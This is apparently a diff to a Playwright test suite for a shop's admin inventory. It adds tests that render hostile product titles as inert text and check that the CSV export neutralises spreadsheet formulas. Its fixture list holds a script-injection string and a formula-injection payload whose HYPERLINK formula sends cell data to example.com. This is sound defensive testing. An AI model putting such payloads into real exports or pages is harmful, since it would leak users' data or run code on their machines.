@@ -1,9 +1,13 @@
+import { readFile } from "node:fs/promises";
 import type { Page } from "@playwright/test";
 import { doc, FieldPath, setDoc, updateDoc } from "firebase/firestore/lite";
 import { expect, test } from "../fixtures.ts";
 import { onShow, pathOf, piece } from "../stock.ts";
 import { firestore } from "../../../src/data/firestore.ts";
+import { products } from "../../../src/data/products.ts";
 import { shardOf } from "../../../src/data/shards.ts";
+import { choose, textField } from "./form-steps.ts";
+import { openAsAdministrator } from "./log-in.ts";
 
 /**
  * Documents that no rule would let in, written by the owner of the database past all rules: the shop shows them as
@@ -30,6 +34,7 @@ const HOSTILE = [
   { id: "hostile-mark-up", title: MARK_UP },
   { id: "hostile-json", title: `</script><script>${RUN}</script>` },
   { id: "hostile-direction", title: RTL },
+  { id: "hostile-formula", title: '=HYPERLINK("https://example.com/?take="&A1,"Ring")' },
   {
     id: "hostile-picture",
     title: "Ring with a hostile picture",
@@ -135,4 +140,52 @@ test("addresses that name no piece say that it is gone", async ({ page, allowCon
       page.getByRole("heading", { name: /no longer available|cannot find that page/ }),
     ).toBeVisible();
   }
+});
+
+test("the inventory shows them as text, a row each, and its file holds nothing that a spreadsheet runs", async ({
+  page,
+}) => {
+  await openAsAdministrator(page, "/bj-admin/inventory?q=hostile");
+  const titles = page.locator("tbody .cell-title a");
+  await expect(titles).toHaveCount(HOSTILE.length + 1);
+  const shown = await titles.allTextContents();
+  for (const { title } of HOSTILE) expect(shown).toContain(title);
+  expect(Math.max(...shown.map(({ length }) => length))).toBeLessThanOrEqual(200);
+  await expectNothingRun(page);
+  expect(
+    await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth),
+  ).toBeLessThanOrEqual(0);
+
+  const downloading = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Export CSV" }).click();
+  const file = await readFile(await (await downloading).path(), "utf8");
+  expect(file).toContain(`"'=HYPERLINK(""https://example.com/?take=""&A1,""Ring"")"`);
+  expect(file).not.toMatch(/(^|[,\n])"?[=+@]/);
+});
+
+test("the worst of them can be opened, mended and saved", async ({ page }) => {
+  await openAsAdministrator(page, "/bj-admin/inventory?q=hostile");
+  for (const [n, { id, title }] of [
+    ...HOSTILE.slice(-2),
+    { id: "hostile-long", title: "Long ring" },
+  ].entries()) {
+    await test.step(id, async () => {
+      await page.locator(`tbody a[href$="/edit/${id}"]`).first().click();
+      const heading = page.getByRole("heading", { level: 1 });
+      await expect(heading).toContainText(title);
+      expect((await heading.innerText()).length).toBeLessThanOrEqual(205);
+      await expectNothingRun(page);
+      const mended = { title: `Mended ring ${n}`, description: "Of gold.", price: "100" };
+      await textField(page, "Title").fill(mended.title);
+      await textField(page, "Description").fill(mended.description);
+      await textField(page, "Price").fill(mended.price);
+      await choose(page, "Condition", "Good");
+      await choose(page, "Brand", solitaire.brand);
+      await page.getByRole("button", { name: "Submit Edit" }).click();
+      await page.getByRole("dialog").getByRole("link", { name: "Return To Inventory" }).click();
+      expect(await products.get(id)).toMatchObject({ ...mended, revision: 2, images: [] });
+      await expect(page.getByRole("link", { name: mended.title, exact: true })).toBeVisible();
+    });
+  }
+  await expectNothingRun(page);
 });
